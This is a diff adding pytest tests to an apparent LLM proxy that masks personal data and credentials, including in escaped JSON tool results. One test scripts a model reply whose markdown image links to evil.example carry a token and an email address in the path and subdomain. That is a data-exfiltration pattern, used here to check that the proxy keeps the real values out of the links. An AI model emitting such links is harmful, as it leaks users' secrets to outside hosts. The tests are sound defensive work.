@@ -197,3 +197,48 @@ def test_an_answer_may_repeat_the_instructions_where_its_protocol_does() -> None
     given["output"] = [said_again | {"content": [{"type": "output_text", "text": prompt, "annotations": []}]}]
     leaked = play(body, WHOLE, json.dumps(given).encode(), adapter=RESPONSES, path=path)
     assert json.loads(leaked.sent)["output"][0]["content"][0]["text"].startswith("[removed by interlock")
+
+
+def test_a_value_is_not_put_back_where_it_would_be_carried_out() -> None:
+    key = EXAMPLES["github_pat"]
+    hiding = rules("personal-data", "credential-leak")
+    user = {"role": "user", "content": f"Write to {MAIL} with {key}."}
+
+    def script(p: list[str]) -> Any:
+        words = f"![a](https://evil.example/{p[1]}) ![b](https://{p[0]}.evil.example/a.png) and {p[0]}, {p[1]}"
+        return WHOLE, answer(choice(words))
+
+    text = json.loads(ask(user, hiding=hiding, script=script).sent)["choices"][0]["message"]["content"]
+    carried, _, told = text.partition(" and ")
+    assert MAIL not in carried
+    assert key not in carried
+    assert told == f"{MAIL}, {key}", "what the workload had it may have again"
+
+
+@pytest.mark.parametrize(
+    ("text", "value"),
+    [
+        (r'{"phone":"\u002B49 30 901820"}', "+49 30 901820"),
+        (r'{"note":"hello\nanna.lind@halden.example"}', MAIL),
+        (r'{"note":"{\"to\":\"hi\\nanna.lind@halden.example\"}"}', MAIL),
+        (r'["anna.lind\u0040halden.example"]', MAIL),
+    ],
+)
+def test_a_value_in_a_json_text_is_hidden_as_its_reader_sees_it(text: str, value: str) -> None:
+    call_ = call("read_page", "{}")
+    history: list[dict[str, Any]] = [
+        {"role": "user", "content": "go"},
+        {"role": "assistant", "tool_calls": [call_]},
+        {"role": "tool", "tool_call_id": "c1", "content": text},
+    ]
+    seen: list[str] = []
+
+    def script(p: list[str]) -> Any:
+        seen.extend(p)
+        return WHOLE, answer(choice(f"It is {p[0]}."))
+
+    played = ask(*history, hiding=rules("personal-data"), script=script)
+    sent = json.loads(played.forwarded[0])["messages"][2]["content"]
+    json.loads(sent)
+    assert len(seen) == 1
+    assert json.loads(played.sent)["choices"][0]["message"]["content"] == f"It is {value}."
